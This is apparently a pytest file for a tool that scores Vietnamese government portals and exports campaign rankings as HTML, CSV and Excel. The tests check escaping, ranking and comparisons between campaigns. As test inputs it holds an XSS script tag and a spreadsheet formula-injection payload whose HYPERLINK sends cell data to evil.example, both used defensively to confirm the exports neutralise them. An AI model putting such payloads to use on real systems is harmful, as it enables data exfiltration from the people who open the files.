"""The campaign report from stored assessments: escaping, its one hashed script, the comparison."""

from __future__ import annotations

import base64
import csv
import hashlib
import re
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assessor.artifacts.function import FunctionFacts, LoginOutcome
from assessor.criteria import load_rubric
from assessor.model import RubricRef, Status, Text
from assessor.report.campaign_report import build_view, write_campaign_report
from assessor.report.html_report import environment, render_html
from assessor.report.numbers import cut_points
from assessor.scoring import score
from assessor.store import PortalInfo, open_store
from tests.builders import make_snapshot, page

RUBRIC = load_rubric()
HOSTILE = 'Cổng <script>alert("x")</script> & "Bộ"'


def stored(tmp_path: Path, name: str, html: str, previous_html: str | None = None):
    store = open_store(tmp_path / "db.sqlite3")
    if previous_html is not None:
        older = store.create_campaign("older", "p.yaml", str(tmp_path / "older"), None, {})
        store.save_result(older, PortalInfo("p1", HOSTILE, "ministry", "https://a.gov.vn/"), datetime.now(UTC),
                          assessment=score(RUBRIC, make_snapshot(page(html=previous_html))))
    campaign = store.create_campaign(name, "p.yaml", str(tmp_path / name), None, {})
    store.save_result(campaign, PortalInfo("p1", HOSTILE, "ministry", "https://a.gov.vn/"), datetime.now(UTC),
                      assessment=score(RUBRIC, make_snapshot(page(html=html))))
    store.save_result(campaign, PortalInfo("p2", "Cổng tỉnh", "province", "https://b.gov.vn/"), datetime.now(UTC),
                      error="timed out after 210 s")
    return store, campaign


def test_portal_strings_are_escaped_and_only_the_hashed_script_may_run(tmp_path: Path) -> None:
    store, campaign = stored(tmp_path, "c", "<html lang='vi'><body>x</body></html>")
    html = write_campaign_report(store, campaign)["html"].read_text(encoding="utf-8")
    assert HOSTILE not in html
    assert "Cổng &lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; &#34;Bộ&#34;" in html
    scripts = re.findall(r"<script>(.*?)</script>", html, flags=re.DOTALL)
    assert len(scripts) == 1
    digest = base64.b64encode(hashlib.sha256(scripts[0].encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}'" in html
    assert "timed out after 210 s" in html and "Lỗi khi đánh giá" in html


def test_the_view_ranks_graded_portals_and_compares_with_the_previous_campaign(tmp_path: Path) -> None:
    good = "<html lang='vi'><head><title>T</title></head><body><p>x</p></body></html>"
    bad = "<html><body><p>x</p></body></html>"
    store, campaign = stored(tmp_path, "newer", bad, previous_html=good)
    view = build_view(store, campaign)
    first, failed = view.lines
    assert (first.id, first.rank, failed.id, failed.rank, failed.status) == ("p1", 1, "p2", None, "failed")
    assert [(row.name, count) for row, count in view.compared] == [("older", 1)]
    before = store.results(store.campaign("older"))[0].assessment
    now = store.results(campaign)[0].assessment
    assert first.change == pytest.approx(now.score - before.score, abs=0.011)
    newly_failed = sorted(
        c.id for g in now.groups for c in g.criteria
        if c.status == Status.FAIL and before.criterion(c.id).status != Status.FAIL
    )
    assert first.new_failures == newly_failed and newly_failed
    assert {item.id for item in view.failed} <= set(first.failed)
    assert len(view.failed) == min(10, len(first.failed))
    assert sum(count for _, count in view.grades) == 1


def test_a_graded_portal_whose_login_failed_says_so_in_the_ranking(tmp_path: Path) -> None:
    snapshot = make_snapshot(page(html="<html lang='vi'><body>x</body></html>"))
    snapshot.functions = FunctionFacts(login=LoginOutcome(attempted=True, error="step 2 (fill): <không thấy ô>"))
    store = open_store(tmp_path / "db.sqlite3")
    campaign = store.create_campaign("c", "p.yaml", str(tmp_path / "c"), None, {})
    store.save_result(campaign, PortalInfo("p1", "Cổng", "ministry", "https://a.gov.vn/"), datetime.now(UTC),
                      assessment=score(RUBRIC, snapshot))
    line = build_view(store, campaign).lines[0]
    assert line.grade is not None and line.error.startswith("Không đăng nhập được bằng công thức đăng nhập (step 2")
    html = write_campaign_report(store, campaign)["html"].read_text(encoding="utf-8")
    assert "(step 2 (fill): &lt;không thấy ô&gt;)" in html
    # In the report's language, in the page and in the exports.
    english = build_view(store, campaign, "en").lines[0].error
    assert english.startswith("Could not log in with the login recipe (step 2"), english
    paths = write_campaign_report(store, campaign, "en")
    assert "Could not log in with the login recipe" in paths["html"].read_text(encoding="utf-8")
    assert "Could not log in with the login recipe" in paths["ranking_csv"].read_text(encoding="utf-8-sig")


def test_exported_text_that_a_spreadsheet_would_run_as_a_formula_stays_text(tmp_path: Path) -> None:
    """A portal's error (whose words a portal can choose: a redirect's target, a login step's
    message) or a name starting with = + - @ opens in a spreadsheet as text, never as a formula
    (OWASP's CSV injection): the workbook's cells are typed as text, the CSV's are led by an
    apostrophe. Numbers, negative ones included, stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
    store = open_store(tmp_path / "db.sqlite3")
    older = store.create_campaign("older", "p.yaml", str(tmp_path / "older"), None, {})
    good = score(RUBRIC, make_snapshot(page(html="<html lang='vi'><head><title>T</title></head><body>x</body></html>")))
    store.save_result(older, PortalInfo("p1", "Cổng", "ministry", "https://a.gov.vn/"), datetime.now(UTC),
                      assessment=good)
    campaign = store.create_campaign("c", "p.yaml", str(tmp_path / "c"), None, {})
    store.save_result(campaign, PortalInfo("p1", "@SUM(1+1)", "ministry", "https://a.gov.vn/"), datetime.now(UTC),
                      assessment=score(RUBRIC, make_snapshot(page(html="<html><body>x</body></html>"))))
    store.save_result(campaign, PortalInfo("p2", "Cổng tỉnh", "province", "https://b.gov.vn/"), datetime.now(UTC),
                      error=formula)
    paths = write_campaign_report(store, campaign)

    sheet = load_workbook(paths["excel"])["ranking"]
    header = [cell.value for cell in sheet[1]]
    first, failed = ({name: cell for name, cell in zip(header, row, strict=True)} for row in sheet.iter_rows(min_row=2))
    assert (failed["error"].value, failed["error"].data_type) == (formula, "s")
    assert (first["name"].value, first["name"].data_type) == ("@SUM(1+1)", "s")
    assert isinstance(first["change"].value, float) and first["change"].value < 0 and first["change"].data_type == "n"

    with paths["ranking_csv"].open(encoding="utf-8-sig", newline="") as handle:
        first_csv, failed_csv = csv.DictReader(handle)
    assert (failed_csv["error"], first_csv["name"]) == ("'" + formula, "'@SUM(1+1)")
    assert float(first_csv["change"]) < 0


def test_equal_scores_share_a_rank_in_the_page_and_the_exports(tmp_path: Path) -> None:
    """Standard competition ranking (1, 1, 1, 4): portals with the same score to the two decimals
    the exports show are ranked together, whatever their ids (a difference in the ninth decimal,
    from adding up in another order, is no difference), in the HTML table, ranking.csv and the
    workbook."""
    good = score(RUBRIC, make_snapshot(page(html="<html lang='vi'><head><title>T</title></head><body>x</body></html>")))
    bad = score(RUBRIC, make_snapshot(page(html="<html><body>x</body></html>")))
    assert good.score > bad.score
    store = open_store(tmp_path / "db.sqlite3")
    campaign = store.create_campaign("c", "p.yaml", str(tmp_path / "c"), None, {})
    noisy = good.model_copy(update={"score": good.score + 1e-9})
    for portal_id, assessment in (("zeta", good), ("low", bad), ("alpha", good), ("beta", noisy)):
        store.save_result(campaign, PortalInfo(portal_id, f"Cổng {portal_id}", "province", "https://a.gov.vn/"),
                          datetime.now(UTC), assessment=assessment)
    assert [(line.id, line.rank) for line in build_view(store, campaign).lines] == [
        ("alpha", 1), ("beta", 1), ("zeta", 1), ("low", 4)]
    paths = write_campaign_report(store, campaign)
    with paths["ranking_csv"].open(encoding="utf-8-sig", newline="") as handle:
        assert [(row["id"], row["rank"]) for row in csv.DictReader(handle)] == [
            ("alpha", "1"), ("beta", "1"), ("zeta", "1"), ("low", "4")]
    sheet = load_workbook(paths["excel"])["ranking"]
    assert [(row[1], row[0]) for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        ("alpha", 1), ("beta", 1), ("zeta", 1), ("low", 4)]
    html = paths["html"].read_text(encoding="utf-8")
    ranks = re.findall(r'data-portal="(\w+)">\s*<td class="num" data-value="(\d+)">', html)
    assert ranks == [("alpha", "1"), ("beta", "1"), ("zeta", "1"), ("low", "4")]


def test_group_points_read_as_in_the_portal_report_and_add_up_to_the_rescaled_score(tmp_path: Path) -> None:
    """A group with criteria not applicable (security's cookies, EMC's procedure tracking on a
    portal without procedures) shows the same "earned / maximum" as the portal's own report; its
    share is of the applicable points, said in the cell and the footnote. ranking.csv carries the
    points earned and the applicable points, from which the rescaled score follows."""
    assessment = score(RUBRIC, make_snapshot(page(html="<html lang='vi'><head><title>T</title></head><body>x</body></html>")))
    partly = {g.id: g for g in assessment.groups if g.applicable_points < g.points}
    assert {"security", "emc"} <= set(partly)
    store = open_store(tmp_path / "db.sqlite3")
    campaign = store.create_campaign("c", "p.yaml", str(tmp_path / "c"), None, {})
    store.save_result(campaign, PortalInfo("p1", "Cổng", "ministry", "https://a.gov.vn/"), datetime.now(UTC),
                      assessment=assessment)
    paths = write_campaign_report(store, campaign)
    portal_report = render_html(assessment, None, RUBRIC, "vi")
    html = paths["html"].read_text(encoding="utf-8")
    heatmap = html.split('class="heatmap"', 1)[1].split("</table>", 1)[0]
    shown = environment().filters["points"]
    for group in assessment.groups:
        cell = re.search(rf'<td[^>]*data-group="{group.id}"[^>]*>(.*?)</td>', heatmap, flags=re.DOTALL).group(1)
        assert f"{shown(group.score)} / {shown(group.points)}" in portal_report
        assert f"{shown(group.score)}/{shown(group.points)}" in cell
        assert cell.strip().startswith(f"{100 * group.score / group.applicable_points:.0f}%")
        if group.id in partly:
            assert f"áp dụng: {shown(group.applicable_points)}" in cell
        else:
            assert "áp dụng" not in cell
    assert "tổng điểm được quy đổi về thang 100" in html

    with paths["ranking_csv"].open(encoding="utf-8-sig", newline="") as handle:
        (row,) = csv.DictReader(handle)
    earned = sum(float(row[f"group:{g.id}"]) for g in assessment.groups)
    assert abs(float(row["points_earned"]) - earned) < 0.05
    assert float(row["applicable_points"]) == sum(g.applicable_points for g in assessment.groups) < 100
    assert abs(float(row["score"]) - 100 * float(row["points_earned"]) / float(row["applicable_points"])) < 0.01


def test_each_portal_is_compared_with_its_latest_earlier_graded_result_named_by_campaign(tmp_path: Path) -> None:
    """A campaign created just before that holds none of this one's portals (or only a failed
    attempt at one) is not what a portal is compared with: each portal is compared with its own
    latest graded result in an earlier campaign, as `assessor history` shows it, and the page and
    ranking.csv name that campaign."""
    good = score(RUBRIC, make_snapshot(page(html="<html lang='vi'><head><title>T</title></head><body>x</body></html>")))
    bad = score(RUBRIC, make_snapshot(page(html="<html><body>x</body></html>")))
    p1 = PortalInfo("p1", "Cổng một", "ministry", "https://a.gov.vn/")
    store = open_store(tmp_path / "db.sqlite3")
    first = store.create_campaign("đợt 1", "p.yaml", str(tmp_path / "d1"), None, {})
    store.save_result(first, p1, datetime.now(UTC), assessment=good)
    other = store.create_campaign("khác", "p.yaml", str(tmp_path / "k"), None, {})
    store.save_result(other, PortalInfo("p9", "Cổng chín", "province", "https://z.gov.vn/"), datetime.now(UTC),
                      assessment=good)
    store.save_result(other, p1, datetime.now(UTC), error="timed out after 210 s")
    campaign = store.create_campaign("đợt 2", "p.yaml", str(tmp_path / "d2"), None, {})
    store.save_result(campaign, p1, datetime.now(UTC), assessment=bad)
    store.save_result(campaign, PortalInfo("p2", "Cổng hai", "province", "https://b.gov.vn/"), datetime.now(UTC),
                      assessment=bad)

    view = build_view(store, campaign)
    one, two = sorted(view.lines, key=lambda line: line.id)
    assert (one.previous_campaign, one.previous_score, one.previous_grade) == ("đợt 1", good.score, good.grade)
    assert one.change == pytest.approx(bad.score - good.score, abs=0.011) and one.previous_rubric is None
    assert (two.previous_campaign, two.previous_score, two.change) == (None, None, None)
    assert [(row.name, count) for row, count in view.compared] == [("đợt 1", 1)]

    paths = write_campaign_report(store, campaign)
    with paths["ranking_csv"].open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    assert (rows["p1"]["previous_campaign"], float(rows["p1"]["previous_score"])) == ("đợt 1", cut_points(good.score))
    assert (rows["p2"]["previous_campaign"], rows["p2"]["previous_score"]) == ("", "")
    comparison = paths["html"].read_text(encoding="utf-8").split('id="comparison-title"', 1)[1].split("</section>")[0]
    assert "khác" not in comparison and "đợt 1" in comparison and "Cổng một" in comparison
    assert "Cổng hai" not in comparison.split("<table>")[1] and "1 cổng chưa có kết quả" in comparison


def test_a_comparison_with_a_result_scored_with_another_rubric_says_so(tmp_path: Path) -> None:
    """Another rubric id or version, or the same one whose text was edited (its fingerprint,
    stored with each campaign), is named next to the comparison, in the page and ranking.csv."""
    good = score(RUBRIC, make_snapshot(page(html="<html lang='vi'><head><title>T</title></head><body>x</body></html>")))
    other_rubric = good.model_copy(update={"criteria": RubricRef(id="rubric-<b>x</b>", title=Text(vi="X", en="X"),
                                                                   version="9")})
    portals = [PortalInfo(pid, f"Cổng {pid}", "province", f"https://{pid}.gov.vn/") for pid in ("p1", "p2", "p3")]
    store = open_store(tmp_path / "db.sqlite3")
    older = store.create_campaign("older", "p.yaml", str(tmp_path / "o"), None, {"rubric_fingerprint": "aaaa1111"})
    store.save_result(older, portals[0], datetime.now(UTC), assessment=other_rubric)
    store.save_result(older, portals[1], datetime.now(UTC), assessment=good)
    same = store.create_campaign("same", "p.yaml", str(tmp_path / "s"), None, {"rubric_fingerprint": "bbbb2222"})
    store.save_result(same, portals[2], datetime.now(UTC), assessment=good)
    campaign = store.create_campaign("c", "p.yaml", str(tmp_path / "c"), None, {"rubric_fingerprint": "bbbb2222"})
    for portal in portals:
        store.save_result(campaign, portal, datetime.now(UTC), assessment=good)

    lines = {line.id: line for line in build_view(store, campaign).lines}
    assert lines["p1"].previous_rubric == "rubric-<b>x</b> 9"
    assert lines["p2"].previous_rubric == "qd-473-2024 2024.1 (aaaa1111)"
    assert lines["p3"].previous_rubric is None
    paths = write_campaign_report(store, campaign)
    html = paths["html"].read_text(encoding="utf-8")
    assert "rubric-<b>" not in html and "chấm theo bộ tiêu chí khác: rubric-&lt;b&gt;x&lt;/b&gt; 9" in html
    assert "chấm theo bộ tiêu chí khác: qd-473-2024 2024.1 (aaaa1111)" in html
    with paths["ranking_csv"].open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["id"]: row for row in csv.DictReader(handle)}
    assert [rows[pid]["previous_rubric"] for pid in ("p1", "p2", "p3")] == [
        "rubric-<b>x</b> 9", "qd-473-2024 2024.1 (aaaa1111)", ""]
